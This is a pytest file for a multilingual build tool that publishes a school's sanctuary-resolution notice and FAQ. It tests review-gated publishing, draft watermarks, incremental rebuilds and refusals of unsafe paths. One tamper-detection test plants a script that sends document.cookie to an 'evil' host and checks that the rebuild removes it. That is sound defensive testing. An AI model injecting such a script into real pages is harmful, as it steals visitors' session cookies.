"""homelang build: publishing policy, --draft, incremental rebuilds, index.html.

Judges: the files on disk, pypdf reading the PDFs back, Python's HTML parser on index.html.
"""

from __future__ import annotations

import json
import os
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import polib
import pytest
from conftest import Homelang
from pypdf import PdfReader

from pipeline import states
from pipeline.glossary import Glossary, load_glossary

NOTICE = "sanctuary-resolution"
FAQ = "sanctuary-resolution-faq"
#: Words in each language's own script, so fonts and direction are exercised.
SAMPLE = {
    "es": "Información para las familias",
    "so": "Macluumaad loogu talagalay qoysaska",
    "hmn": "Cov ntaub ntawv rau tsev neeg",
    "kar": "ကညီကျိာ် တၢ်ကစီၣ် လၢ ဖိသ့ဖိ အဟံၣ်ဖိဃီဖိ တဖၣ် ကညီကျိာ် တၢ်ကစီၣ်",
    "om": "Odeeffannoo maatiiwwaniif",
    "am": "ለቤተሰቦች መረጃ ትምህርት ቤቱ ለሁሉም ተማሪዎች ደህንነቱ የተጠበቀ ቦታ ነው",
    "ar": "معلومات للعائلات في 236 Maple Street اتصل 010-2030 المدرسة مكان آمن لجميع الطلاب والعائلات",
    "vi": "Thông tin cho gia đình",
}


def translate(entry: polib.POEntry, lang: str, glossary: Glossary) -> str:
    """A stand-in translation that keeps links, placeholders and glossary terms, as checks require."""
    keep = re.findall(r"\[[^\]]*\]\([^)]*\)|%\(\w+\)s", entry.msgid)
    keep += [t.translation or t.term for t in glossary.applicable(entry.msgid, lang)]
    return " ".join([SAMPLE[lang], *keep])


def review(
    root: Path, lang: str, doc_id: str, leave: int = 0, machine: bool = False
) -> polib.POFile:
    """Fill a catalog and mark its entries reviewed (the last ``leave`` ones machine drafts instead)."""
    path = root / "locales" / lang / "LC_MESSAGES" / f"{doc_id}.po"
    catalog = polib.pofile(str(path), wrapwidth=0)
    glossary = load_glossary(root / "glossary.csv")
    live = [e for e in catalog if not e.obsolete]
    for i, entry in enumerate(live):
        entry.msgstr = translate(entry, lang, glossary)
        if machine or i >= len(live) - leave:
            states.mark_machine(entry, "google", "2026-11-29")
        else:
            states.mark_reviewed(entry, "Amina", "2026-11-29")
    catalog.save(str(path))
    return catalog


def outputs(result_json: str) -> dict[str, dict]:
    return {o["path"]: o for o in json.loads(result_json)["outputs"]}


def pdf_text(path: Path) -> str:
    return "\n".join(page.extract_text() or "" for page in PdfReader(path).pages)


def test_draft_builds_every_language_with_a_watermark(catalogs_ready: Path, homelang) -> None:
    result = outputs(homelang("build", "--draft", "--json").output)
    langs = ["en", "es", "so", "hmn", "kar", "om", "am", "ar", "vi"]
    for lang in langs:
        for doc in (NOTICE, FAQ):
            for suffix in (".letter.pdf", ".flyer.pdf", ".web.html"):
                rel = f"{lang}/{doc}{suffix}"
                assert result[rel]["status"] == "draft"
                assert (catalogs_ready / "build" / rel).is_file()
    letter = catalogs_ready / "build" / "es" / f"{FAQ}.letter.pdf"
    reader = PdfReader(letter)
    assert len(reader.pages) >= 2
    for page in reader.pages:  # the watermark is on every page
        assert "DRAFT" in re.sub(r"\s+", "", page.extract_text() or "")
    # missing text is shown in English and marked
    assert "not yet translated, shown in English" in pdf_text(letter).replace("\n", " ")
    assert PdfReader(catalogs_ready / "build" / "es" / f"{FAQ}.flyer.pdf").get_num_pages() == 1


def test_vital_document_with_one_unreviewed_entry_is_not_published(
    catalogs_ready: Path, homelang
) -> None:
    review(catalogs_ready, "es", NOTICE, leave=1)
    review(catalogs_ready, "es", "templates")
    result = outputs(homelang("build", "--lang", "es", "--doc", NOTICE, "--json").output)
    letter = f"es/{NOTICE}.letter.pdf"
    assert result[letter]["status"] == "skipped"
    assert "1 of 5 entries not reviewed" in result[letter]["reason"]
    assert not (catalogs_ready / "build" / letter).exists()
    index = (catalogs_ready / "build" / "index.html").read_text("utf-8")
    assert "español" in index and "1 of 5 entries not reviewed" in index
    # --draft builds it anyway, watermarked
    result = outputs(homelang("build", "--lang", "es", "--doc", NOTICE, "--draft", "--json").output)
    assert result[letter]["status"] == "draft"
    assert "DRAFT" in pdf_text(catalogs_ready / "build" / letter)
    # once the last entry is reviewed, it publishes, without the watermark and in Spanish
    review(catalogs_ready, "es", NOTICE)
    result = outputs(homelang("build", "--lang", "es", "--doc", NOTICE, "--json").output)
    assert result[letter]["status"] == "published"
    text = pdf_text(catalogs_ready / "build" / letter)
    assert "DRAFT" not in text and SAMPLE["es"] in text and "Dear family" not in text
    # and a published language that loses its review is withdrawn, not left stale
    review(catalogs_ready, "es", NOTICE, leave=1)
    homelang("build", "--lang", "es", "--doc", NOTICE)
    assert not (catalogs_ready / "build" / letter).exists()


def test_non_vital_document_publishes_with_machine_text_labelled(
    catalogs_ready: Path, homelang
) -> None:
    review(catalogs_ready, "so", FAQ, leave=2)  # 17 of 19 reviewed: above the 80 % threshold
    result = outputs(
        homelang("build", "--lang", "so", "--doc", FAQ, "--format", "web", "--json").output
    )
    rel = f"so/{FAQ}.web.html"
    assert result[rel]["status"] == "published"
    html = (catalogs_ready / "build" / rel).read_text("utf-8")
    assert html.count('class="hl-mark"') == 2
    assert "translated by a machine" in html
    review(catalogs_ready, "so", FAQ, leave=5)  # 14 of 19: below
    result = outputs(
        homelang("build", "--lang", "so", "--doc", FAQ, "--format", "web", "--json").output
    )
    assert result[rel]["status"] == "skipped" and "80% needed" in result[rel]["reason"]


def test_build_is_incremental(catalogs_ready: Path, homelang) -> None:
    first = outputs(homelang("build", "--draft", "--json").output)
    assert all(o["rebuilt"] for o in first.values())
    pdf = catalogs_ready / "build" / "vi" / f"{NOTICE}.letter.pdf"
    before = pdf.read_bytes()
    second = outputs(homelang("build", "--draft", "--json").output)
    assert not any(o["rebuilt"] for o in second.values())
    review(catalogs_ready, "vi", NOTICE, machine=True)
    third = outputs(homelang("build", "--draft", "--json").output)
    rebuilt = sorted(p for p, o in third.items() if o["rebuilt"])
    assert rebuilt == [f"vi/{NOTICE}.flyer.pdf", f"vi/{NOTICE}.letter.pdf", f"vi/{NOTICE}.web.html"]
    assert pdf.read_bytes() != before and SAMPLE["vi"] in pdf_text(pdf)


def test_index_lists_every_output_by_native_name(catalogs_ready: Path, homelang) -> None:
    homelang("build", "--draft")

    class Links(HTMLParser):
        def __init__(self) -> None:
            super().__init__()
            self.hrefs: list[str] = []
            self.langs: list[str] = []

        def handle_starttag(self, tag: str, attrs: list) -> None:
            attrs = dict(attrs)
            if tag == "a":
                self.hrefs.append(attrs["href"])
            if tag == "span" and "lang" in attrs:
                self.langs.append(attrs["lang"])

    parser = Links()
    index = (catalogs_ready / "build" / "index.html").read_text("utf-8")
    parser.feed(index)
    assert len(parser.hrefs) == 9 * 2 * 3
    assert all((catalogs_ready / "build" / href).is_file() for href in parser.hrefs)
    assert parser.langs == ["en", "es", "so", "hmn", "kar", "om", "am", "ar", "vi"]
    for native in ("Soomaali", "Hmoob", "አማርኛ", "العربية", "Tiếng Việt"):
        assert native in index


@pytest.mark.parametrize("args", [["--format", "pdf"], ["--doc", "nope"], ["--lang", "fr"]])
def test_bad_selection_is_an_error_and_writes_nothing(
    catalogs_ready: Path, homelang, args: list[str]
) -> None:
    result = homelang("build", *args, expect=2)
    assert "Error" in result.output
    assert not (catalogs_ready / "build").exists()


def test_mo_format_holds_reviewed_entries_only(catalogs_ready: Path, homelang) -> None:
    review(catalogs_ready, "am", FAQ, leave=2)
    homelang("build", "--lang", "am", "--doc", FAQ, "--format", "mo")
    mo = polib.mofile(str(catalogs_ready / "build" / "am" / f"{FAQ}.mo"))
    assert len([e for e in mo if e.msgid]) == 17


def test_translation_of_changed_english_is_never_published(catalogs_ready: Path, homelang) -> None:
    """A reviewed translation whose English changed shows the new English until a person updates it."""
    review(catalogs_ready, "es", FAQ)
    source = catalogs_ready / "source/faq/sanctuary-resolution-faq.md"
    source.write_text(
        source.read_text("utf-8").replace(
            "There will not be significant", "There will be significant"
        ),
        "utf-8",
    )
    homelang("extract")
    homelang("update")
    homelang("build", "--lang", "es", "--doc", FAQ, "--format", "web")
    page = (catalogs_ready / "build/es" / f"{FAQ}.web.html").read_text("utf-8")
    assert "There will be significant changes." in page  # the new English, labelled
    assert page.count(SAMPLE["es"]) == 18  # the other 18 entries keep their reviewed text
    homelang("build", "--lang", "es", "--doc", FAQ, "--format", "web", "--draft")
    draft = (catalogs_ready / "build/es" / f"{FAQ}.web.html").read_text("utf-8")
    assert draft.count(SAMPLE["es"]) == 19 and "earlier version of the English" in draft


def test_partial_builds_keep_the_index_whole_and_leave_no_drafts(
    catalogs_ready: Path, homelang
) -> None:
    homelang("build", "--draft", "--format", "web")
    build = catalogs_ready / "build"
    rows = lambda: re.findall(r"<tr><td>", (build / "index.html").read_text("utf-8"))  # noqa: E731
    everything = len(rows())
    assert everything == 9 * 2  # English and 8 languages, two documents
    homelang("build", "--draft", "--format", "web", "--lang", "es")
    assert len(rows()) == everything  # a build of one language does not drop the others
    assert (build / "so" / f"{NOTICE}.web.html").exists()
    homelang("build", "--format", "mo", "--lang", "es")  # publishes: no draft may stay behind
    assert not list(build.glob("*/*.web.html"))
    assert 'class="draft"' not in (build / "index.html").read_text("utf-8")


def test_template_override_without_common_typ_is_a_one_line_error(project: Path, homelang) -> None:
    (project / "templates").mkdir()
    (project / "templates" / "letter.typ").write_text('#import "common.typ": *\n#show: setup\nHi\n')
    result = homelang("build", "--draft", "--lang", "es", "-f", "letter", expect=2)
    assert result.output == (
        "Error: templates/letter.typ: no common.typ beside this template: "
        "copy pipeline/templates/common.typ there\n"
    )


def test_words_override_in_cp1252_is_a_one_line_error(project: Path, homelang) -> None:
    words = (Path(__file__).resolve().parents[1] / "pipeline" / "templates" / "words.j2").read_text(
        "utf-8"
    )
    (project / "templates").mkdir()
    (project / "templates" / "words.j2").write_bytes(
        words.replace("Sincerely,", "Sincèrement,").encode("cp1252")
    )
    expected = (
        "Error: templates/words.j2:7: not UTF-8 text (byte 0xE8): save the template as UTF-8\n"
    )
    assert homelang("extract", expect=2).output == expected
    assert homelang("build", "--draft", "--lang", "es", "-f", "web", expect=2).output == expected


@pytest.mark.parametrize("name", ["words.j2", "letter.typ", "web.html.j2"])
@pytest.mark.parametrize("kind", ["fifo", "folder"])
def test_a_template_override_that_is_no_file_is_a_one_line_error(
    project: Path, homelang, name: str, kind: str
) -> None:
    """A FIFO would block the build forever; a folder was skipped for the default unseen."""
    (project / "templates").mkdir()
    path = project / "templates" / name
    os.mkfifo(path) if kind == "fifo" else path.mkdir()
    result = homelang("build", "--draft", "--lang", "es", "-f", "web", expect=2)
    assert result.output.startswith(f"Error: templates/{name}: not a regular file")
    assert len(result.output.splitlines()) == 1


def test_tampered_output_is_rendered_again(catalogs_ready: Path, homelang) -> None:
    """The manifest vouches for an output's bytes too: a planted script does not survive a build."""
    homelang("pretranslate", "--provider", "pseudo")
    homelang("build", "--draft", "--lang", "es", "--format", "web")
    page = catalogs_ready / "build" / "es" / f"{NOTICE}.web.html"
    clean = page.read_bytes()
    script = '<script>fetch("//evil/?"+document.cookie)</script></section>'
    page.write_text(clean.decode("utf-8").replace("</section>", script), "utf-8")
    result = outputs(
        homelang("build", "--draft", "--lang", "es", "--format", "web", "--json").output
    )
    assert result[f"es/{NOTICE}.web.html"]["rebuilt"]
    assert page.read_bytes() == clean


@pytest.mark.parametrize("draft", [["--draft"], []])
def test_dropped_language_or_document_leaves_no_outputs(
    catalogs_ready: Path, homelang, draft: list[str]
) -> None:
    """Outputs of a language or document no longer configured are withdrawn, draft or not."""
    homelang("pretranslate", "--provider", "pseudo")
    review(catalogs_ready, "ar", FAQ)
    homelang("build", "--format", "web", "--doc", FAQ)  # ar/FAQ published
    homelang("build", "--draft", "--format", "web", "--doc", NOTICE)
    build = catalogs_ready / "build"
    assert (build / "ar" / f"{NOTICE}.web.html").exists()
    assert (build / "ar" / f"{FAQ}.web.html").exists()
    settings = catalogs_ready / "pyproject.toml"
    text = re.sub(r"(?m)^languages = .*$", 'languages = ["es", "so"]', settings.read_text("utf-8"))
    settings.write_text(re.sub(r"(?m)^language_providers = .*$", "", text), "utf-8")
    (catalogs_ready / "source/faq/sanctuary-resolution-faq.md").unlink()
    homelang("build", "--format", "web", *draft)
    left = sorted(p.relative_to(build).as_posix() for p in build.glob("*/*.web.html"))
    assert left and all(p.split("/")[0] in ("en", "es", "so") for p in left), left
    assert not any(FAQ in p for p in left), left
    for name in (".manifest.json", ".outputs.json"):
        kept = json.loads((build / name).read_text("utf-8"))
        assert all(p.split("/")[0] in ("en", "es", "so") and FAQ not in p for p in kept), kept


@pytest.mark.parametrize("escape", ["\\xFFFFFFFF", "\\x110000", "\\xD800"])
def test_an_escape_past_unicode_is_a_one_line_error(
    catalogs_ready: Path, homelang, escape: str
) -> None:
    path = catalogs_ready / "locales" / "es" / "LC_MESSAGES" / f"{NOTICE}.po"
    lines = path.read_text("utf-8").split("\n")
    number = next(i for i, line in enumerate(lines, 1) if line == 'msgstr ""' and i > 20)
    lines[number - 1] = f'msgstr "Hola {escape}"'
    path.write_text("\n".join(lines), "utf-8")
    before = path.read_bytes()
    for command in (["check"], ["status"], ["build", "--draft", "--lang", "es"]):
        result = homelang(*command, expect=2)
        assert result.output == (
            f"Error: locales/es/LC_MESSAGES/{NOTICE}.po:{number}: not a valid PO file: "
            f"escape {escape} is not a character\n"
        )
    assert path.read_bytes() == before


@pytest.mark.parametrize("out", ["source", "locales", ".", ".git", "source/notices/x", ".homelang"])
def test_build_output_over_the_project_folders_is_refused(
    catalogs_ready: Path, homelang, out: str
) -> None:
    (catalogs_ready / ".git").mkdir()
    before = {p: p.read_bytes() for p in catalogs_ready.rglob("*") if p.is_file()}
    result = homelang(
        "build", "--draft", "--lang", "es", "-f", "web", "-o", str(catalogs_ready / out), expect=2
    )
    assert result.output.startswith("Error: ") and result.output.count("\n") == 1
    assert {p: p.read_bytes() for p in catalogs_ready.rglob("*") if p.is_file()} == before


def test_build_output_through_a_link_is_refused(
    catalogs_ready: Path, homelang, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (catalogs_ready / "real").mkdir()
    (catalogs_ready / "real" / "x").symlink_to(outside)
    result = homelang(
        "build",
        "--draft",
        "--lang",
        "es",
        "-f",
        "web",
        "-o",
        str(catalogs_ready / "real/x/y"),
        expect=2,
    )
    assert "real/x" in result.output and "link" in result.output
    assert not any(outside.iterdir())


def test_a_build_folder_from_another_clone_is_not_trusted(
    catalogs_ready: Path, homelang, tmp_path: Path
) -> None:
    """A build folder committed with its manifest (a planted script, a manifest that
    vouches for it) is rendered afresh: the manifest is signed with a key of this
    machine's state folder, which is never committed."""
    homelang("pretranslate", "--provider", "pseudo")
    homelang("build", "--draft", "--lang", "es", "--format", "web")
    clone = tmp_path / "clone"
    shutil.copytree(catalogs_ready, clone, ignore=shutil.ignore_patterns(".homelang"))
    page = clone / "build" / "es" / f"{NOTICE}.web.html"
    clean = page.read_bytes()
    result = outputs(
        Homelang(clone)("build", "--draft", "--lang", "es", "--format", "web", "--json").output
    )
    assert all(o["rebuilt"] for o in result.values())
    assert page.read_bytes() == clean
    again = outputs(
        Homelang(clone)("build", "--draft", "--lang", "es", "--format", "web", "--json").output
    )
    assert not any(o["rebuilt"] for o in again.values())
